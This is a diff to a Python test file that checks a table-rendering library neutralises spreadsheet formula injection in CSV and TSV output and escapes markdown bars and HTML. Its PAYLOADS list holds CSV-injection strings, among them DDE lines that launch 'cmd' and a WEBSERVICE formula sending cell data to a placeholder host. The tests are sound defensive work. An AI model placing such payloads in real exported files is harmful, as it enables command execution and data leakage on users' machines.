@@ -3,6 +3,7 @@
 import csv
 import io
 import json
+import re
 from fractions import Fraction
 from typing import Any
 
@@ -31,17 +32,69 @@ def test_a_cell_that_was_made_safe_is_read_back(cell: str) -> None:
     assert safe_cell(cell) in (cell, f"'{cell}")
 
 
-@given(st.sampled_from("=@\t\r\n+-"), st.text())
-def test_no_spreadsheet_runs_a_cell(begins: str, rest: str) -> None:
-    made = safe_cell(begins + rest)
-    assert made.startswith("'") or (begins in "+-" and rest.lstrip()[:1] in "0123456789.(;")
+PAYLOADS = [
+    "=A1",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "+2+3+cmd|' /C calc'!A0",
+    '-1+HYPERLINK("http://x","y")',
+    '-2+WEBSERVICE("http://x/"&A1)',
+    "-(1)+A1",
+    "-.5+A1",
+    "+.;A1",
+    "-5\n+A1",
+    "-5\t",
+    "- -A1",
+    "−2+A1",
+    "＝A1",
+    "＋A1",
+    "－A1",
+    "＠SUM(A1)",
+    " =A1",
+    "\u00a0-A1",
+    "\ufeff=A1",
+    "\0=A1",
+    "\t=A1",
+    "\r=A1",
+    "\n=5",
+    "-",
+    "+; x",
+    "+1e5",
+    "-٣",
+    "-1/2/3",
+    "-1.",
+    "'=A1",
+]
+NUMBERS = ["-5", "+3", "- 5", "−5", "-.5", "-2.5", "2.5", "3/4", "-3/4", "+3/4", "24", "-0"]
+TEXTS = ["", "x", "4 + 3 x 8 - 4", "(1 + 2)", "1=1", "a@b", "8 / (3 - 8 / 3) = 24", "3\n=A1", "é"]
 
 
-@pytest.mark.parametrize(
-    "number", ["-5", "+3", "- 5", "-(1 + 2)", "-.5", "24", "3/4", "", "x", "-", "-; +"]
-)
-def test_numbers_and_formulas_stay_as_they_are(number: str) -> None:
-    assert safe_cell(number) == number
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_no_spreadsheet_runs_a_cell(payload: str) -> None:
+    assert safe_cell(payload) == f"'{payload}"
+    row: dict[str, Any] = {"name": payload, payload: 1}
+    for cells in csv.reader(io.StringIO("\n".join(STREAMS["csv"]([row], list(row))), newline="")):
+        assert f"'{payload}" in cells
+    for line in STREAMS["tsv"]([row], list(row)):
+        assert any(cell.startswith("'") for cell in line.split("\t"))
+
+
+@pytest.mark.parametrize("cell", [*NUMBERS, *TEXTS])
+def test_numbers_and_other_texts_stay_as_they_are(cell: str) -> None:
+    assert safe_cell(cell) == cell
+
+
+@given(st.sampled_from("+-−"), st.text(st.sampled_from("0123456789./;(+-A |=\n")))
+def test_after_a_sign_only_a_number_is_safe(sign: str, rest: str) -> None:
+    number = rest.removeprefix(" ")
+    digits = all(part.isdecimal() for part in re.split("[./]", number, maxsplit=1))
+    is_number = digits or (number[:1] == "." and number[1:].isdecimal())
+    assert (safe_cell(sign + rest) == sign + rest) == is_number
+
+
+@given(st.sampled_from("=@\t\r\n＝＠"), st.text())
+def test_other_signs_are_never_safe(sign: str, rest: str) -> None:
+    assert safe_cell(sign + rest) == f"'{sign}{rest}"
 
 
 @given(st.lists(st.lists(st.text(), min_size=2, max_size=2), min_size=1))
@@ -97,6 +150,23 @@ def test_a_person_sees_what_is_chosen_and_a_program_everything() -> None:
     assert render(ROWS, shown=["count", "name", "nothing"]).splitlines()[0] == "  count  name"
     assert render(ROWS, "csv", ["count"]).splitlines()[0].count(",") == 5
     assert render([], shown=["count", "name"]).splitlines()[0].split() == ["count", "name"]
+
+
+@pytest.mark.parametrize("form", ["github", "pipe"])
+def test_a_bar_does_not_end_a_cell_of_markdown(form: str) -> None:
+    head, _, line = render([{"a|b": "1|2", "c": 3}], form).splitlines()
+    assert [re.findall(r"(?<!\\)\|", each) for each in (head, line)] == [["|"] * 3] * 2
+    assert r"1\|2" in line
+
+
+@pytest.mark.parametrize("form", ["unsafehtml", "latex_raw"])
+def test_formats_that_escape_nothing_are_refused(form: str) -> None:
+    with pytest.raises(ValueError, match=f"there is no format '{form}'"):
+        check_format(form)
+
+
+def test_html_escapes_the_text_of_cells() -> None:
+    assert "&lt;b&gt;" in render([{"name": "<b>"}], "html")
 
 
 @pytest.mark.parametrize("name", [*OWN_FORMATS, "github", "html"])
